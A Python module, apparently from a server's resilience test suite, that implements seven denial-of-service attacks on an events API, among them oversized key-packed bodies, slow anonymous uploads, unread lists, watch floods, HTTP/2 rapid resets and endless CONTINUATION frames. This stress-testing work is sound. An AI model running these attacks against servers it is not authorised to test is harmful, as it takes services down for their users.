"""Attacks on an event server, by clients with few or no permissions. Each runs until it is stopped.

Used by `hostile`, which checks that an honest client is served at the same time, and by
tools/bench-server, which measures the latency of that client. An attack sends requests only to the
given server.
"""
import contextlib
import http.client
import json
import socket
import ssl
import threading
import urllib.parse

EVENTS = '/api/v1/namespaces/default/events'
SECONDS = 30  # Timeout of a connection, which is then opened again.


class Target:
    """The server under attack, and the token of a user who may read and write events."""

    def __init__(self, url, ca, token):
        parts = urllib.parse.urlsplit(url)
        self.host, self.port, self.token = parts.hostname, parts.port, token
        self.contexts = {}
        for protocol in ('http/1.1', 'h2'):
            context = ssl.create_default_context(cafile=str(ca))
            context.set_alpn_protocols([protocol])
            self.contexts[protocol] = context

    def connect(self, protocol='http/1.1', receive_bytes=None):
        plain = socket.socket()
        if receive_bytes:
            plain.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_bytes)
        plain.settimeout(SECONDS)
        plain.connect((self.host, self.port))
        return self.contexts[protocol].wrap_socket(plain, server_hostname=self.host)

    def head(self, method, path, *fields):
        lines = [f'{method} {path} HTTP/1.1', f'Host: {self.host}', f'Authorization: Bearer {self.token}', *fields]
        return ('\r\n'.join(lines) + '\r\n\r\n').encode()


class Stop(threading.Event):
    """Ends an attack when it is set. Counts the attempts."""

    def __init__(self):
        super().__init__()
        self.attempts = 0


def repeat(stop, attempt):
    """Repeats an attempt. Errors are ignored: the server may reject it."""
    while not stop.is_set():
        with contextlib.suppress(OSError, http.client.HTTPException):
            attempt()
        stop.attempts += 1
        stop.wait(0.01)


def in_threads(count, work):
    threads = [threading.Thread(target=work, args=(number,)) for number in range(count)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


def bodies_of_many_keys():
    """Bodies slightly below the limit of 3 MiB, each with as many members as possible."""
    keys = [f'{number:06d}' for number in range(190_000, 0, -1)]
    event = {'metadata': {'name': 'many', 'labels': {}}, 'involvedObject': {'namespace': 'default'}}
    labels = json.dumps(event).replace('"labels": {}', '"labels":{%s}' % ','.join(f'"{key}":"v"' for key in keys))
    yaml = 'metadata:\n  name: many\n  labels:\n' + ''.join(f'    "{key}": v\n' for key in keys)
    owners = ','.join(f'{{"uid":"{number}"}}' for number in range(150_000, 0, -1))
    operations = ','.join(f'{{"op":"add","path":"/metadata/labels/{key}","value":"v"}}' for key in keys[:50_000])
    unknown = '{' + ','.join(f'"{key}":1' for key in keys) + '}'
    patched = f'{EVENTS}/patched'
    return [('POST', EVENTS, 'application/json', labels), ('POST', EVENTS, 'application/yaml', yaml),
            ('POST', EVENTS, 'application/json', unknown),
            ('PATCH', patched, 'application/merge-patch+json', labels),
            ('PATCH', patched, 'application/strategic-merge-patch+json', f'{{"metadata":{{"ownerReferences":[{owners}]}}}}'),
            ('PATCH', patched, 'application/json-patch+json', f'[{operations}]')]


def many_keys(target, stop):
    """Request bodies of 3 MiB with as many members as possible."""
    bodies = bodies_of_many_keys()

    def work(number):
        client = http.client.HTTPSConnection(target.host, target.port, timeout=SECONDS,
                                             context=target.contexts['http/1.1'])
        turn = number

        def attempt():
            nonlocal turn
            method, path, kind, body = bodies[turn % len(bodies)]
            turn += 1
            try:
                client.request(method, path, body.encode(),
                               {'Authorization': f'Bearer {target.token}', 'Content-Type': kind})
                client.getresponse().read()
            except BaseException:
                client.close()
                raise

        repeat(stop, attempt)

    in_threads(4, work)


def anonymous_bodies(target, stop):
    """Incomplete bodies of 3 MiB without credentials, on many connections."""
    head = (f'POST {EVENTS} HTTP/1.1\r\nHost: h\r\nContent-Type: application/json\r\n'
            f'Content-Length: {3 << 20}\r\n\r\n').encode()
    part = b' ' * 65536

    def send_parts(connections):
        for connection in connections:
            connection.settimeout(0.05)
            with contextlib.suppress(OSError):
                for _ in range(47):
                    connection.sendall(part)
        stop.wait(2)

    on_many_connections(target, stop, 45, head, send_parts)


def on_many_connections(target, stop, count, request, then, receive_bytes=None):
    """In each of four threads, sends a request on `count` connections, calls `then` with them and closes them."""
    def work(_):
        def attempt():
            connections = []
            try:
                for _ in range(count):
                    connection = target.connect(receive_bytes=receive_bytes)
                    connections.append(connection)
                    connection.sendall(request)
                then(connections)
            finally:
                for connection in connections:
                    connection.close()

        repeat(stop, attempt)

    in_threads(4, work)


def unread_lists(target, stop):
    """Lists with a selector, on many connections that never read the response."""
    on_many_connections(target, stop, 50, target.head('GET', EVENTS + '?fieldSelector=type!%3Dx'),
                        lambda _: stop.wait(3), receive_bytes=4096)


def many_watches(target, stop):
    """Watches from the start, of all events, that begin again and again."""
    on_many_connections(target, stop, 25, target.head('GET', EVENTS + '?watch=true&resourceVersion=0'),
                        lambda _: stop.wait(0.5))


def many_lists(target, stop):
    """Many concurrent lists with a selector that matches nothing."""
    def read(connections):
        for connection in connections:
            while connection.recv(65536):
                pass

    on_many_connections(target, stop, 25,
                        target.head('GET', EVENTS + '?fieldSelector=type%3Dx', 'Connection: close'), read)


def frame(kind, flags, stream, payload=b''):
    return len(payload).to_bytes(3, 'big') + bytes([kind, flags]) + stream.to_bytes(4, 'big') + payload


HEADERS, RST_STREAM, SETTINGS, CONTINUATION = 1, 3, 4, 9
END_STREAM, END_HEADERS = 1, 4
PREFACE = b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n' + frame(SETTINGS, 0, 0)


def literal(text):
    """Encodes a string for HPACK, without Huffman coding."""
    data, size = text.encode(), len(text.encode())
    if size < 127:
        return bytes([size]) + data
    size -= 127
    prefix = b'\x7f'
    while size >= 128:
        prefix += bytes([size % 128 + 128])
        size //= 128
    return prefix + bytes([size]) + data


def resets(target, stop):
    """HTTP/2 requests that are reset immediately."""
    path = EVENTS + '?fieldSelector=type!%3Dx'
    # GET, https, the path, the authority, the token.
    block = (b'\x82\x87' + b'\x04' + literal(path) + b'\x41' + literal('h') +
             b'\x00' + literal('authorization') + literal(f'Bearer {target.token}'))

    def work(_):
        def attempt():
            with target.connect('h2') as connection:
                connection.sendall(PREFACE)
                for start in range(1, 2001, 100):
                    connection.sendall(b''.join(
                        frame(HEADERS, END_STREAM | END_HEADERS, 2 * n + 1, block) +
                        frame(RST_STREAM, 0, 2 * n + 1, b'\0\0\0\x08') for n in range(start, start + 100)))

        repeat(stop, attempt)

    in_threads(2, work)


def continuations(target, stop):
    """Invalid HTTP/2 header blocks (two methods) that never end."""
    begin = frame(HEADERS, END_STREAM, 1, b'\x82\x82\x87\x84\x41\x01h')
    more = frame(CONTINUATION, 0, 1, (b'\0\x01a\x01b') * 3000)

    def work(_):
        def attempt():
            with target.connect('h2') as connection:
                connection.sendall(PREFACE + begin)
                for _ in range(1000):
                    connection.sendall(more)

        repeat(stop, attempt)

    in_threads(2, work)


ALL = {attack.__name__: attack
       for attack in (many_keys, anonymous_bodies, unread_lists, many_watches, many_lists, resets, continuations)}


class Running:
    """Runs an attack in the background. A context manager."""

    def __init__(self, attack, target):
        self.stop = Stop()
        self.thread = threading.Thread(target=attack, args=(target, self.stop))

    def __enter__(self):
        self.thread.start()
        return self

    def __exit__(self, *_):
        self.stop.set()
        self.thread.join()
